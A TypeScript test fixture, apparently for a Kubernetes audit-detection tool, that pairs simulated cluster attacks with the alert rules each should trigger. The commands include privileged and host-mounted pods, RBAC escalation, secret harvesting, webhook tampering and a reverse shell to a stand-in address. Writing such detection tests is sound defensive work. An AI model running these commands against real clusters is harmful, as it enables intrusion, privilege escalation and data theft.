/** An attack, as kubectl does it, and the prewritten rule that has to say so. */
export interface Attack {
  readonly name: string;
  /** Arguments of kubectl. `MANIFEST` is the file of the manifest. A call that stays open is ended after a second. */
  readonly kubectl: readonly string[];
  readonly manifest?: string;
  /** How often it is done. Default once. */
  readonly times?: number;
  /** Done by carol, who has no rights beyond those of every user. */
  readonly asCarol?: boolean;
  readonly rule: string;
}

/** Nothing to be found: it makes what the next needs. */
const nothing = "";

type Row = readonly [name: string, rule: string, kubectl: string | readonly string[], more?: Partial<Attack>];

const words = (kubectl: string | readonly string[]) => (typeof kubectl === "string" ? kubectl.split(" ") : kubectl);
const apply = "apply -f MANIFEST";

/** One object in flow style. */
const object = (apiVersion: string, kind: string, metadata: string, rest = "") => ({
  manifest: `{ apiVersion: ${apiVersion}, kind: ${kind}, metadata: { ${metadata} }${rest && `, ${rest}`} }\n`,
});
const pod = (name: string, spec: string) => object("v1", "Pod", `name: ${name}, namespace: shop`, `spec: { ${spec} }`);
const plain = "containers: [{ name: c, image: nginx, securityContext: { runAsNonRoot: true } }]";
const container = (text: string) => `containers: [{ name: c, image: nginx, ${text} }]`;
const role = (name: string, rules: string) =>
  object("rbac.authorization.k8s.io/v1", "ClusterRole", `name: ${name}`, `rules: [${rules}]`);
const service = (name: string, spec: string) =>
  object("v1", "Service", `name: ${name}, namespace: shop`, `spec: { ports: [{ port: 80 }], ${spec} }`);
const workload = (kind: string, name: string, spec: string) =>
  object(
    "apps/v1",
    kind,
    `name: ${name}, namespace: shop`,
    `spec: { selector: { matchLabels: { app: x } }, template: { metadata: { labels: { app: x } }, spec: { ${spec} } } }`,
  );
const webhook = (kind: string, name: string) =>
  object(
    "admissionregistration.k8s.io/v1",
    kind,
    `name: ${name}`,
    `webhooks: [{ name: a.example.com, clientConfig: { url: "https://127.0.0.1:9/" }, failurePolicy: Ignore, sideEffects: None, admissionReviewVersions: [v1], rules: [{ operations: [CREATE], apiGroups: [example.com], apiVersions: [v1], resources: [things] }] }]`,
  );

const rows: readonly Row[] = [
  ["privileged pod", "Privileged pod creation", apply, pod("priv", container("securityContext: { privileged: true }"))],
  ["host processes", "Pod created in host process namespace", apply, pod("hostpid", `hostPID: true, ${plain}`)],
  ["host ipc", "Pod created in host IPC namespace", apply, pod("hostipc", `hostIPC: true, ${plain}`)],
  ["host network", "Pod created on host network", apply, pod("hostnet", `hostNetwork: true, ${plain}`)],
  [
    "host file system",
    "Pod created with host file system mount",
    apply,
    pod("hostfs", `volumes: [{ name: v, hostPath: { path: /opt/data } }], ${plain}`),
  ],
  [
    "root of the node",
    "Pod created with sensitive host path",
    apply,
    pod("hostroot", `volumes: [{ name: v, hostPath: { path: / } }], ${plain}`),
  ],
  [
    "container socket, writable",
    "Pod mounts a host path for writing",
    apply,
    pod(
      "sock",
      `volumes: [{ name: v, hostPath: { path: /var/run/docker.sock } }], ${container("volumeMounts: [{ name: v, mountPath: /s }]")}`,
    ),
  ],
  ["no security context", "Pod created without security context", "run bare --image=nginx -n shop"],
  [
    "added capability",
    "Container with dangerous capabilities",
    apply,
    pod("caps", container("securityContext: { capabilities: { add: [SYS_ADMIN] } }")),
  ],
  [
    "seccomp unconfined",
    "Container without seccomp confinement",
    apply,
    pod("seccomp", container("securityContext: { seccompProfile: { type: Unconfined } }")),
  ],
  [
    "apparmor unconfined",
    "Container without AppArmor or SELinux confinement",
    apply,
    pod("apparmor", container("securityContext: { appArmorProfile: { type: Unconfined } }")),
  ],
  [
    "unmasked proc",
    "Container with unmasked /proc",
    apply,
    pod("proc", `hostUsers: false, ${container("securityContext: { procMount: Unmasked }")}`),
  ],
  ["miner", "Pod runs a crypto miner", "run miner --image=xmrig/xmrig:6 -n shop"],
  [
    "reverse shell",
    "Pod runs a reverse shell or a downloaded script",
    ["run", "shell", "--image=busybox", "-n", "shop", "--", "sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
  ],
  ["pod in kube-system", "Pod created in a system namespace", "run helper --image=nginx -n kube-system"],
  [
    "privileged deployment",
    "Privileged pod creation",
    apply,
    workload("Deployment", "deep", container("securityContext: { privileged: true }")),
  ],
  ["daemon set", "DaemonSet created", apply, workload("DaemonSet", "everywhere", plain)],
  [
    "host network by JSON patch",
    "Pod created on host network",
    [
      "patch",
      "deployment",
      "deep",
      "-n",
      "shop",
      "--type=json",
      "-p",
      '[{"op":"add","path":"/spec/template/spec/hostNetwork","value":true}]',
    ],
  ],
  [
    "host processes by merge patch",
    "Pod created in host process namespace",
    [
      "patch",
      "deployment",
      "deep",
      "-n",
      "shop",
      "--type=merge",
      "-p",
      '{"spec":{"template":{"spec":{"hostPID":true}}}}',
    ],
  ],
  ["ephemeral container", "Ephemeral container added to a pod", "debug priv -n shop --image=busybox --attach=false"],
  ["debug of a node", "Node debug pod created", "debug node/test-node --image=busybox --attach=false"],
  ["exec", "Exec or attach to a pod", "exec priv -n shop -- sh"],
  ["attach", "Exec or attach to a pod", "attach priv -n shop"],
  [
    "kubelet by the node's proxy",
    "Kubelet reached through the API server",
    "get --raw /api/v1/nodes/test-node/proxy/pods",
  ],
  [
    "service proxy",
    "Service or pod reached through the API server",
    "get --raw /api/v1/namespaces/default/services/https:kubernetes:443/proxy/",
  ],
  [
    "cluster-admin for carol",
    "Cluster administrator bound",
    "create clusterrolebinding boss --clusterrole=cluster-admin --user=mallory",
  ],
  [
    "rights for the anonymous",
    "Rights given to anonymous users",
    "create clusterrolebinding anon --clusterrole=view --user=system:anonymous",
  ],
  [
    "rights for default",
    "Rights given to a default service account",
    "create clusterrolebinding def --clusterrole=edit --serviceaccount=shop:default",
  ],
  ["everything", "Role with all rights", apply, role("all", '{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }')],
  [
    "secrets",
    "Role that may read secrets",
    apply,
    role("reader", '{ apiGroups: [""], resources: [secrets], verbs: [get, list] }'),
  ],
  [
    "exec for somebody",
    "Role that may enter pods",
    apply,
    role("execer", '{ apiGroups: [""], resources: [pods/exec], verbs: [create] }'),
  ],
  [
    "pods for somebody",
    "Role that may create pods",
    apply,
    role("podder", '{ apiGroups: [""], resources: [pods], verbs: [create] }'),
  ],
  [
    "escalate",
    "Role that may raise rights",
    apply,
    role("escalator", "{ apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [escalate, bind] }"),
  ],
  [
    "impersonate",
    "Role that may raise rights",
    apply,
    role("actor", '{ apiGroups: [""], resources: [users], verbs: [impersonate] }'),
  ],
  [
    "a system role",
    "System role or binding changed",
    [
      "patch",
      "clusterrole",
      "system:basic-user",
      "--type=json",
      "-p",
      '[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["pods"],"verbs":["list"]}}]',
    ],
  ],
  [
    "account in kube-system",
    "Service account created in a control plane namespace",
    "create serviceaccount backdoor -n kube-system",
  ],
  ["token of another", "Token of a control plane service account requested", "create token default -n kube-system"],
  [
    "token for ever",
    "Long-lived service account token created",
    apply,
    object(
      "v1",
      "Secret",
      "name: forever, namespace: shop, annotations: { kubernetes.io/service-account.name: default }",
      "type: kubernetes.io/service-account-token",
    ),
  ],
  ["all secrets", "Secrets of all namespaces listed", "get secrets -A"],
  ["one secret after the other", "Many secrets read", "get secret forever -n shop", { times: 25 }],
  [
    "credentials in a config map",
    "Credentials in a config map",
    [
      "create",
      "configmap",
      "cfg",
      "-n",
      "shop",
      "--from-literal=AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ],
  ],
  ["what may I", "Own rights listed", "auth can-i --list"],
  ["act as the masters", "Acting as an administrator", "get pods --as=bob --as-group=system:masters"],
  [
    "act as a controller",
    "Acting as another identity",
    "get pods --as=system:serviceaccount:kube-system:replicaset-controller",
  ],
  ["a right that is missing", "Forbidden request", "get secrets -n shop", { asCarol: true }],
  [
    "many rights that are missing",
    "Forbidden requests in a burst",
    "get secrets -n shop",
    { asCarol: true, times: 25 },
  ],
  [
    "admission webhook",
    "Admission webhook created or changed",
    apply,
    webhook("MutatingWebhookConfiguration", "mutator"),
  ],
  [
    "validating webhook",
    "Admission webhook created or changed",
    apply,
    webhook("ValidatingWebhookConfiguration", "validator"),
  ],
  [
    "admission webhook deleted",
    "Admission webhook removed or weakened",
    "delete validatingwebhookconfiguration validator",
  ],
  [
    "API service",
    "APIService created or changed",
    apply,
    object(
      "apiregistration.k8s.io/v1",
      "APIService",
      "name: v1.evil.example.com",
      "spec: { group: evil.example.com, version: v1, groupPriorityMinimum: 1, versionPriority: 1, insecureSkipTLSVerify: true, service: { name: kubernetes, namespace: default } }",
    ),
  ],
  [
    "CRD",
    "Custom resource definition written by a person",
    apply,
    object(
      "apiextensions.k8s.io/v1",
      "CustomResourceDefinition",
      "name: things.example.com",
      "spec: { group: example.com, scope: Namespaced, names: { plural: things, kind: Thing }, versions: [{ name: v1, served: true, storage: true, schema: { openAPIV3Schema: { type: object } } }] }",
    ),
  ],
  ["CRD deleted", "Custom resource definition deleted", "delete crd things.example.com"],
  [
    "pod security weakened",
    "Pod Security of a namespace weakened",
    "label namespace shop pod-security.kubernetes.io/enforce=privileged --overwrite",
  ],
  [
    "network policy",
    nothing,
    apply,
    object("networking.k8s.io/v1", "NetworkPolicy", "name: deny, namespace: shop", "spec: { podSelector: {} }"),
  ],
  ["network policy deleted", "Network policy deleted", "delete networkpolicy deny -n shop"],
  ["quota", nothing, "create quota q --hard=pods=100 -n shop"],
  ["quota deleted", "Resource quota or limit range deleted", "delete quota q -n shop"],
  ["traces removed", "Kubernetes events deleted", "delete events --all -n shop"],
  ["node port", "NodePort service created", apply, service("np", "type: NodePort")],
  ["load balancer", "Load balancer open to everyone created", apply, service("lb", "type: LoadBalancer")],
  ["external IPs", "Service takes over an external address", apply, service("ext", "externalIPs: [203.0.113.9]")],
  ["ingress without TLS", "Ingress without TLS", "create ingress web --rule=shop.example.com/*=web:80 -n shop"],
  [
    "names of the cluster",
    "Cluster DNS or kube-proxy configuration changed",
    "create configmap coredns -n kube-system --from-literal=Corefile=.:53",
  ],
  ["EKS accounts", "EKS access map changed", "create configmap aws-auth -n kube-system --from-literal=mapRoles=x"],
  [
    "cloud identity",
    "Cloud identity given to a service account",
    "annotate serviceaccount default -n shop eks.amazonaws.com/role-arn=arn:aws:iam::123456789012:role/admin",
  ],
  [
    "every minute",
    "Suspicious cron job",
    "create cronjob beacon --image=busybox --schedule=*/1_*_*_*_* -n default -- true",
  ],
  ["certificate asked for", "Client certificate requested", apply, { manifest: "CSR" }],
  ["certificate approved", "Certificate signing request approved by hand", "certificate approve mallory"],
  ["cordon", "Node cordoned, tainted or given a role by a person", "cordon test-node"],
  [
    "persistent volume of the node",
    "Persistent volume on a sensitive host path",
    apply,
    object(
      "v1",
      "PersistentVolume",
      "name: root",
      "spec: { capacity: { storage: 1Gi }, accessModes: [ReadWriteOnce], hostPath: { path: / } }",
    ),
  ],
  ["high priority", "Priority class above the others", "create priorityclass top --value=1000000000"],
  [
    "a lease",
    "Leader or node lease written by another",
    apply,
    object(
      "coordination.k8s.io/v1",
      "Lease",
      "name: kube-scheduler, namespace: kube-system",
      "spec: { holderIdentity: mallory }",
    ),
  ],
  ["our own configuration", "Tampering with auditwire configuration", "create configmap auditwire-config -n auditwire"],
  ["many pods", nothing, "create deployment many --image=nginx --replicas=35 -n shop"],
  ["many pods run", nothing, "rollout status deployment/many -n shop --timeout=60s"],
  ["many pods deleted", "Pods evicted or deleted in a burst", "delete pods --all -n shop --wait=false"],
  ["namespace deleted", "Namespace deleted", "delete namespace shop --wait=false"],
  ["node deleted", "Node deleted", "delete node test-node --wait=false"],
];

/** In this order: some need what an earlier one made. */
export const attacks: readonly Attack[] = rows.map(([name, rule, kubectl, more]) => ({
  name,
  rule,
  kubectl: words(kubectl).map((word) => (word.startsWith("--schedule=") ? word.replaceAll("_", " ") : word)),
  ...more,
}));
